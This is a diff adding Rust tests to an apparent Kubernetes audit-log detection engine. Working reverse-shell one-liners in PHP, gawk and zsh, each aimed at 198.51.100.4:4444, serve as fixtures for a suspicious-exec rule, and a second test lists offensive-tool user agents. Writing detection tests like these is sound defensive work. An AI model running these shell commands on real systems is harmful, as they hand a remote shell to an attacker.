@@ -1182,3 +1182,82 @@ fn builtin_summaries_render_without_placeholders() {
         assert!(seen.contains(*id), "{id} did not fire");
     }
 }
+
+#[test]
+fn reverse_shells_without_a_shell_redirect() {
+    // Each is one exec; the command line is matched as a whole and argument by argument.
+    let exec = |command: &[&str]| {
+        audit("create", "pods")
+            .subresource("exec")
+            .name("web-0")
+            .stage("ResponseStarted")
+            .code(101)
+            .exec(command)
+    };
+    let fired = &["k8s.pod_exec", "k8s.exec_suspicious_command"];
+    // PHP inline code opening a socket.
+    check(
+        exec(&[
+            "php",
+            "-r",
+            "$s=fsockopen(\"198.51.100.4\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");",
+        ]),
+        fired,
+    );
+    // A PHP script opening a socket (no -r).
+    check(
+        exec(&[
+            "php",
+            "/tmp/x.php",
+            "$sock = fsockopen ('198.51.100.4', 4444);",
+        ]),
+        fired,
+    );
+    // gawk's network special file.
+    check(
+        exec(&[
+            "awk",
+            "BEGIN {s = \"/inet/tcp/0/198.51.100.4/4444\"; while (1) {printf \"> \" |& s; s |& getline c; while ((c |& getline) > 0) print |& s; close(c)}}",
+        ]),
+        fired,
+    );
+    // zsh's TCP module.
+    check(
+        exec(&[
+            "zsh",
+            "-c",
+            "zmodload zsh/net/tcp && ztcp 198.51.100.4 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY",
+        ]),
+        fired,
+    );
+    // Near misses: ordinary PHP, awk and zsh use.
+    check(exec(&["php", "-v"]), &["k8s.pod_exec"]);
+    check(
+        exec(&["php", "artisan", "migrate", "--force"]),
+        &["k8s.pod_exec"],
+    );
+    check(
+        exec(&["awk", "-F:", "{print $1}", "/etc/passwd"]),
+        &["k8s.pod_exec"],
+    );
+    check(exec(&["zsh", "-c", "echo $ZSH_VERSION"]), &["k8s.pod_exec"]);
+    check(exec(&["cat", "/proc/net/tcp"]), &["k8s.pod_exec"]);
+}
+
+#[test]
+fn azurehound_and_microscanner_are_offensive_user_agents() {
+    let rule = "k8s.offensive_tool_user_agent";
+    for agent in [
+        "azurehound/v2.1.7",
+        "AzureHound/2.0.5",
+        "micro-scanner",
+        "microscanner/1.0",
+    ] {
+        let mut event = audit("list", "pods").namespace(None).build();
+        event.user_agent = Some(agent.to_owned());
+        check(event, &[rule]);
+    }
+    let mut kubectl = audit("list", "pods").namespace(None).build();
+    kubectl.user_agent = Some("kubectl/v1.32.0 (linux/amd64) kubernetes/70d3cc9".to_owned());
+    check(kubectl, &[]);
+}
